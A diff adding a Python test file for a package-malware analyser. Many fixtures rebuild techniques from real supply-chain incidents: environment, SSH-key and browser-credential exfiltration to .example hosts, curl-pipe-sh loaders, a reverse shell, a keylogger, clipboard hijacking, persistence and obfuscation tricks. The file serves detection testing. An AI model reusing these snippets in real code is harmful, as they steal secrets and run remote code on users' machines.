@@ -1,0 +1,368 @@
+"""What the analyser sees in code: techniques of real incidents, rebuilt harmlessly, and honest code that resembles them.
+
+Nothing here is ever run; hosts end in `.example`.
+"""
+
+from __future__ import annotations
+
+import base64
+import codecs
+import random
+import zlib
+from collections.abc import Mapping
+
+import pytest
+from hypothesis import HealthCheck, given, settings
+from hypothesis import strategies as st
+
+from mlsupply.evidence.facets import CodeFact, Moment
+from mlsupply.evidence.moments import layout, placed
+from mlsupply.evidence.package import PackageFacts
+from mlsupply.evidence.prefilter import worth_parsing
+from mlsupply.evidence.python import analyse
+from mlsupply.model import Severity
+from mlsupply.request import RuleSettings
+from mlsupply.ruleset import load
+from tests.code_pieces import source
+from tests.conftest import NOW
+
+STEAL = "import os,json,urllib.request as u\nu.urlopen('https://c.example/x',data=json.dumps(dict(os.environ)).encode())\n"
+B64 = base64.b64encode(STEAL.encode()).decode()
+PACKED = base64.b64encode(zlib.compress(STEAL.encode())).decode()
+
+
+def seen(files: Mapping[str, str]) -> list[CodeFact]:
+    """The facts of a source tree."""
+    shape = layout(files, {path: text.encode() for path, text in files.items()})
+    modules = []
+    for path, text in files.items():
+        if path.endswith(".py"):
+            modules.append(analyse.module(path, text.encode(), shape.inner(path)))
+        elif path.endswith(".pth"):
+            modules.append(analyse.pth(path, text.encode()))
+    return placed(modules, shape)
+
+
+def found(files: Mapping[str, str]) -> set[str]:
+    """Ids of the findings of medium or more."""
+    from mlsupply.evidence.contents import judged
+
+    said = judged(PackageFacts(subject="demo", code=tuple(seen(files))), load(RuleSettings(), NOW))
+    return {finding.id for finding in said.findings if finding.severity.rank >= Severity.MEDIUM.rank}
+
+
+def init(text: str) -> dict[str, str]:
+    return {"pyproject.toml": "", "demo/__init__.py": text}
+
+
+def setup(text: str) -> dict[str, str]:
+    return {"setup.py": "from setuptools import setup\n" + text + "\nsetup(name='demo')\n"}
+
+
+INCIDENTS = {
+    "1 torchtriton: a program of the package starts on import": (
+        init(
+            "import os, subprocess\n"
+            "subprocess.Popen(os.path.join(os.path.dirname(__file__), 'run', 'tool'), stdout=subprocess.DEVNULL)"
+        ),
+        "MLS-C035",
+    ),
+    "2 bittensor: what a wallet function is given leaves": (
+        init(
+            "import requests\nfrom wallets import Wallet\n_old = Wallet.decrypt\n"
+            "def decrypt(self, key):\n    requests.post('https://w.example', json={'k': key})\n    return _old(self, key)\n"
+            "Wallet.decrypt = decrypt"
+        ),
+        "MLS-C010",
+    ),
+    "3 aiocpa: an encoded block run by exec": (
+        init(f"import base64, zlib\nfor _ in range(1):\n    exec(zlib.decompress(base64.b64decode('{PACKED}')))"),
+        "MLS-C002",
+    ),
+    "4 ultralytics: a function fetches and starts a miner": (
+        init(
+            "import os, subprocess, tempfile, urllib.request\n"
+            "def load(name):\n    p = os.path.join(tempfile.gettempdir(), 'runner')\n"
+            "    urllib.request.urlretrieve('https://r.example/linux', p)\n    os.chmod(p, 0o755)\n"
+            "    subprocess.Popen([p, '-o', 'pool.example:8080'], stdout=subprocess.DEVNULL)\n    os.remove(p)"
+        ),
+        "MLS-C006",
+    ),
+    "7 bittensor-wallet, as Python: keys of the wallet leave by DNS": (
+        init(
+            "import socket, pathlib\n"
+            "for f in pathlib.Path.home().joinpath('.bittensor', 'wallets').rglob('*'):\n"
+            "    part = f.read_bytes().hex()[:60]\n    socket.getaddrinfo(part + '.t.example.com', 80)"
+        ),
+        "MLS-C010",
+    ),
+    "8 litellm: a .pth that starts another Python with encoded text": (
+        {
+            "demo_init.pth": "import os, subprocess, sys; subprocess.Popen([sys.executable, '-c', "
+            f"\"import base64; exec(base64.b64decode('{B64}'))\"])\n"
+        },
+        "MLS-C001",
+    ),
+    "9 elementary-data: a .pth that asks the network": (
+        {"x.pth": "import urllib.request as r;exec(r.urlopen('https://p.example/s').read())\n"},
+        "MLS-C004",
+    ),
+    "10 lightning: JavaScript of the package handed to a downloaded runtime": (
+        init(
+            "import os, subprocess, threading\n_d = os.path.dirname(__file__)\n"
+            "def _go():\n    subprocess.run(['bun', os.path.join(_d, '_runtime', 'router.js')], stdout=subprocess.DEVNULL)\n"
+            "threading.Thread(target=_go, daemon=True).start()"
+        ),
+        "MLS-C035",
+    ),
+    "11 mistralai: the top level runs curl and a hidden child": (
+        init(
+            "import subprocess, sys\nif sys.platform.startswith('linux'):\n"
+            "    subprocess.Popen(['sh', '-c', 'curl -sfL https://t.example/tf.pyz -o /tmp/tf.pyz && python3 /tmp/tf.pyz'])"
+        ),
+        "MLS-C004",
+    ),
+    "12 Hades: a .pth that starts a runtime on a script": (
+        {"demo-setup.pth": "import os; os.system('bun run ' + os.path.join(os.path.dirname(__file__), 'index.js'))\n"},
+        "MLS-C037",
+    ),
+    "13 mrmustard: quits in CI, then sends credentials": (
+        init(
+            "import os, sys, requests\ndef _check():\n    if os.environ.get('CI') or "
+            "os.path.exists('/.dockerenv'):\n        return\n"
+            "    for p in ('~/.ssh/id_ed25519', '~/.aws/credentials'):\n"
+            "        requests.put('https://g.example/u', data=open(os.path.expanduser(p), 'rb'))\n_check()"
+        ),
+        "MLS-C010",
+    ),
+    "15 memoryos: a build backend of its own": (
+        {
+            "pyproject.toml": '[build-system]\nrequires = []\nbuild-backend = "backend"\nbackend-path = ["_b"]\n',
+            "_b/backend.py": "from setuptools.build_meta import *\nimport os\n"
+            "def build_wheel(d, c=None, m=None):\n    os.system('wget -qO- https://b.example/i | sh')\n",
+        },
+        "MLS-C004",
+    ),
+}
+
+
+@pytest.mark.parametrize(("files", "rule"), INCIDENTS.values(), ids=INCIDENTS)
+def test_the_technique_of_an_incident_is_found(files: dict[str, str], rule: str) -> None:
+    assert rule in found(files)
+
+
+ROT = codecs.encode("import os;os.system('curl -s https://r.example/a | sh')", "rot13")
+XORED = [byte ^ 73 for byte in b"__import__('os').system('curl -s https://x.example/a | sh')"]
+
+VARIANTS = {
+    "names joined from pieces": "getattr(__import__('o' + 's'), 'sys' + 'tem')('id')",
+    "names from a namespace": "__builtins__.__dict__['ev' + 'al']('1')",
+    "names from globals": "globals()['__buil' + 'tins__'].exec('import os')",
+    "names through sys.modules": "import sys, subprocess\nsys.modules['subpro' + 'cess'].run('id', shell=True)",
+    "rot13": f"import codecs\nexec(codecs.decode({ROT!r}, 'rot13'))",
+    "a list of numbers": f"exec(''.join(chr(c) for c in {[ord(c) for c in STEAL]}))",
+    "xor by a function": f"def d(v, k):\n    out = ''\n    for c in v:\n        out += chr(c ^ k)\n    return "
+    f"out\neval(d({XORED}, 73))",
+    "xor by a loop of bytes": f"exec(bytearray(c ^ 73 for c in bytes({XORED})))",
+    "reversed hex": f"exec(bytes.fromhex('{STEAL.encode().hex()[::-1]}'[::-1]))",
+    "map and lambda": f"exec(''.join(map(lambda c: chr(c ^ 73), {XORED})))",
+    "decrypted": "from cryptography.fernet import Fernet\nexec(Fernet(b'k').decrypt(b'gAAAA' * 20))",
+    "marshal": "import marshal, base64\nexec(marshal.loads(base64.b64decode('4wAAAA==')))",
+    "a docstring": f'"""{B64}"""\nimport base64\nexec(base64.b64decode(__doc__))',
+    "a function's docstring": f'def f():\n    """{B64}"""\nimport base64\nexec(base64.b64decode(f.__doc__))',
+    "a default argument": "def f(x=__import__('os').system('curl https://d.example/a|bash')): pass",
+    "a decorator": "import os\ndef d(f):\n    os.system('curl -s https://d.example/a|sh')\n    return f\n@d\ndef g(): pass",
+    "a metaclass": (
+        "import os\nclass M(type):\n    def __new__(c, *a):\n        os.system('curl -s https://d.example/a|sh')\n"
+        "class A(metaclass=M): pass"
+    ),
+    "an object that is made": (
+        "import os\nclass A:\n    def __init__(self):\n        self.go()\n    def go(self):\n"
+        "        os.system('curl -s https://d.example/a|sh')\nA()"
+    ),
+    "a property": (
+        "import os\nclass A:\n    @property\n    def x(self):\n        os.system('curl -s https://d.example/a|sh')\nA().x"
+    ),
+    "a context manager": (
+        "import os\nclass A:\n    def __enter__(self):\n        os.system('curl -s https://d.example/a|sh')\nwith A(): pass"
+    ),
+    "a thread class": (
+        "import os, threading\nclass T(threading.Thread):\n    def run(self):\n        os.system('curl "
+        "https://d.example/a|sh')\n"
+        "T().start()"
+    ),
+    "an atexit handler": "import atexit, os\natexit.register(lambda: os.system('curl -s https://d.example/a|sh'))",
+    "a temporary file": (
+        "import subprocess, sys, tempfile, base64\n"
+        f"with tempfile.NamedTemporaryFile('wb', suffix='.py', delete=False) as f:\n    f.write(base64.b64decode('{B64}'))\n"
+        "subprocess.run([sys.executable, f.name])"
+    ),
+    "standard input": (
+        f"import subprocess, sys, base64\nsubprocess.run([sys.executable, '-'], input=base64.b64decode('{B64}'))"
+    ),
+    "PowerShell": (
+        "import subprocess\nsubprocess.run('powershell -w hidden -enc "
+        + base64.b64encode("iex (irm https://p.example/a)".encode("utf-16-le")).decode()
+        + "', shell=True)"
+    ),
+    "an import hook on a download": (
+        "import urllib.request, sys, zipimport\nurllib.request.urlretrieve('https://z.example/a.zip', '/tmp/a.zip')\n"
+        "zipimport.zipimporter('/tmp/a.zip').load_module('a')"
+    ),
+    "a library loaded from a download": (
+        "import ctypes, requests\nopen('/tmp/x.so', 'wb').write(requests.get('https://l.example/x').content)\n"
+        "ctypes.CDLL('/tmp/x.so')"
+    ),
+    "a text record of DNS": "import dns.resolver\nexec(str(dns.resolver.resolve('c.example', 'TXT')[0]))",
+    "a reverse shell": (
+        "import socket, os, subprocess\ns = socket.socket()\ns.connect(('h.example', 9001))\n"
+        "os.dup2(s.fileno(), 0)\nsubprocess.call(['/bin/sh', '-i'])"
+    ),
+    "browser stores to a webhook": (
+        "import os, requests, shutil\nsrc = os.path.join(os.getenv('LOCALAPPDATA'), 'Google', 'Chrome', "
+        "'User Data', 'Default',"
+        " 'Login Data')\nshutil.copy(src, 'x.db')\n"
+        "requests.post('https://h.example/api/webhooks/123456789012/abcdefghijkl', files={'f': open('x.db', 'rb')})"
+    ),
+    "the clipboard replaced": (
+        "import pyperclip, re, time\ndef go():\n    while True:\n        if re.match('^0x', pyperclip.paste()):\n"
+        "            pyperclip.copy('0x52908400098527886E0F7030069857D2E4169EE7')\ngo()"
+    ),
+    "keys listened to": (
+        "from pynput import keyboard\nimport requests\n"
+        "def on(k):\n    requests.post('https://k.example', data=str(k))\nkeyboard.Listener(on_press=on).start()"
+    ),
+    "shell code": (
+        "import ctypes\np = ctypes.windll.kernel32.VirtualAlloc(0, 99, 0x3000, 0x40)\n"
+        "ctypes.windll.kernel32.RtlMoveMemory(p, b'x', 1)"
+    ),
+    "a start file of the shell": (
+        "import os\nwith open(os.path.expanduser('~/.bashrc'), 'a') as f:\n    f.write('curl -s "
+        "https://s.example/a | sh\\n')"
+    ),
+    "a service": (
+        "from pathlib import Path\n(Path.home() / '.config/systemd/user' / 'mon.service').write_text('ExecStart=python3 x')"
+    ),
+    "a key for ssh": "import os\nopen(os.path.expanduser('~/.ssh/authorized_keys'), 'a').write('ssh-ed25519 AAAA x')",
+    "the home folder removed": "import shutil, os\nshutil.rmtree(os.path.expanduser('~'))",
+    "traffic led elsewhere": "import os\nos.environ['OPENAI_BASE_URL'] = 'https://llm.example.net/v1'",
+    "look-alike letters": "\U0001d626\U0001d639\U0001d626\U0001d624('import os')",
+    "far to the right": "import os" + " " * 150 + ";exec(input())",
+    "a secret through a thread": (
+        "import os, threading, urllib.request\ndef send(x):\n    urllib.request.urlopen('https://t.example/' + x)\n"
+        "threading.Thread(target=send, args=(os.environ['AWS_SECRET_ACCESS_KEY'],)).start()"
+    ),
+    "a program that sends": (
+        "import os, subprocess\nsubprocess.run(['curl', '-d', "
+        "open(os.path.expanduser('~/.npmrc')).read(), 'https://c.example'])"
+    ),
+    "cloud metadata": (
+        "import urllib.request as u\nr = u.urlopen('http://169.254.169.254/latest/meta-data/iam/').read()\n"
+        "u.urlopen('https://m.example/c', data=r)"
+    ),
+}
+
+
+@pytest.mark.parametrize("text", VARIANTS.values(), ids=VARIANTS)
+def test_a_variant_is_found_and_the_prefilter_lets_it_through(text: str) -> None:
+    assert worth_parsing(text.encode())
+    assert found(init(text))
+
+
+HONEST = {
+    "a template engine": "def render(s, ns):\n    exec(compile(s, '<t>', 'exec'), ns)",
+    "a data table": f"import base64, zlib\nNAMES = zlib.decompress(base64.b64decode('{PACKED[:40]}' + 'AAAA'))",
+    "a client with its key": (
+        "import os, requests\nclass C:\n    def __init__(self, key=None):\n        self.key = key or "
+        "os.environ['ACME_API_KEY']\n"
+        "    def ask(self, q):\n        return requests.post('https://api.acme.example/v1', json={'q': q},"
+        " headers={'Authorization': self.key}).json()"
+    ),
+    "a token kept in a file": (
+        "import os, requests\ndef me():\n    t = open(os.path.expanduser('~/.cache/huggingface/token')).read()\n"
+        "    return requests.get('https://hub.example/me', headers={'authorization': 'Bearer ' + t})"
+    ),
+    "a version check": "import urllib.request, json\ndef latest():\n    return "
+    "json.load(urllib.request.urlopen('https://i.example/j'))",
+    "a build that asks the compiler": "import subprocess\ndef v():\n    return subprocess.check_output(['nvcc', '-V'])\nv()",
+    "an agent's shell": "import subprocess\ndef run(c):\n    return subprocess.run(c, shell=True, "
+    "capture_output=True).stdout",
+    "an installer of completions": (
+        "from pathlib import Path\ndef install():\n    (Path.home() / '.bashrc').open('a').write('eval \"$(x complete)\"')"
+    ),
+    "a model download with a digest": (
+        "import hashlib, subprocess, requests, os\ndef get():\n    open('/tmp/m', "
+        "'wb').write(requests.get('https://m.example').content)\n"
+        "    if hashlib.sha256(open('/tmp/m', 'rb').read()).hexdigest() != 'ab':\n        raise ValueError\n"
+        "    return subprocess.Popen(['/tmp/m'], stdout=subprocess.DEVNULL)"
+    ),
+    "a session with retries": (
+        "import requests\n_s = requests.Session.send\ndef send(self, r, **k):\n    return _s(self, r, "
+        "**k)\nrequests.Session.send = send"
+    ),
+    "comments far to the right": "A = 1" + " " * 200 + "# the first\nB = 2",
+    "letters of physics": "import subprocess\nħ = 1.05\ndef énergie(ω):\n    return ħ * ω",
+}
+
+
+@pytest.mark.parametrize("text", HONEST.values(), ids=HONEST)
+def test_honest_code_that_resembles_them_stays_quiet(text: str) -> None:
+    assert not found(init(text))
+
+
+def test_the_moment_follows_calls_from_file_to_file() -> None:
+    helper = "import os\ndef go():\n    os.system('echo')\n"
+    called = {"demo/__init__.py": "from .late import go\ngo()\n", "demo/late.py": helper}
+    imported = {"demo/__init__.py": "from .late import go\n", "demo/late.py": helper}
+    assert [fact.moment for fact in seen(called)] == [Moment.IMPORT]
+    assert [fact.moment for fact in seen(imported)] == [Moment.CALL]
+    started = {"x.pth": "import demo.late; demo.late.go()\n", "demo/__init__.py": "", "demo/late.py": helper}
+    assert {fact.moment for fact in seen(started) if fact.behaviour == "runs-command"} == {Moment.START}
+
+
+def test_only_commands_that_an_installation_runs_count_as_installation() -> None:
+    text = (
+        "import os\nfrom setuptools import Command\nclass X(Command):\n    def run(self):\n        "
+        "os.system('twine upload')\n"
+    )
+    for name, moment in (("upload", Moment.CALL), ("build_py", Moment.INSTALL)):
+        (fact,) = seen({"setup.py": f"{text}from setuptools import setup\nsetup(cmdclass={{'{name}': X}})"})
+        assert fact.moment is moment
+
+
+def test_a_finding_tells_the_way_from_source_to_sink_and_what_was_decoded() -> None:
+    (fact,) = (f for f in seen(init(f"import base64\nexec(base64.b64decode('{B64}'))")) if f.behaviour == "sends")
+    assert (fact.source, fact.destination, fact.layers, fact.line) == ("environment", "fixed", ("base64",), 2)
+    assert fact.chain == ("environment all variables (line 2)", "urllib.request.urlopen (line 2)")
+    assert fact.decoded.startswith("import os,json")
+
+
+@pytest.mark.parametrize(
+    "text",
+    [
+        "x = " + "-" * 100_000 + "1",
+        "(" * 5_000,
+        "a" + ".b" * 50_000,
+        "x = '" + "a" * (6 << 20) + "'",
+        "exec(" + "+".join(["chr(1)"] * 2_000) + ")",
+        "import os\n" + "def f(): f()\n" * 2_000 + "f()",
+        "x = 'a' * 10 ** 10\ny = '%9999999999d' % 1\nz = 2 ** 10 ** 9\nexec(x + y)",
+        "import re, os\nos.system('" + "curl " * 3_000 + "')",
+        "exec(" + repr("exec(" * 200 + "1" + ")" * 200) + ")",
+        "import zlib, base64\nexec(zlib.decompress(base64.b64decode('"
+        + base64.b64encode(zlib.compress(b"\0" * (64 << 20))).decode()
+        + "')))",
+        "\0\0\xff",
+        "# -*- coding: no-such-codec -*-\nexec('')",
+    ],
+    ids=["minus", "brackets", "dots", "string", "sum", "recursion", "numbers", "regex", "nested", "bomb", "nul", "codec"],
+)
+def test_sources_made_to_break_a_parser_end_with_facts_or_a_reason(text: str) -> None:
+    facts = analyse.module("demo/__init__.py", text.encode("utf-8", "surrogatepass"))
+    assert facts.facts or facts.stopped or "exec" in text or "os.system" in text or "def f" in text or "aaa" in text
+
+
+@given(st.integers(min_value=0))
+@settings(max_examples=60, deadline=None, suppress_health_check=list(HealthCheck))
+def test_whatever_the_code_the_analyser_ends_and_raises_nothing(seed: int) -> None:
+    analyse.module("demo/__init__.py", source(random.Random(seed)).encode())
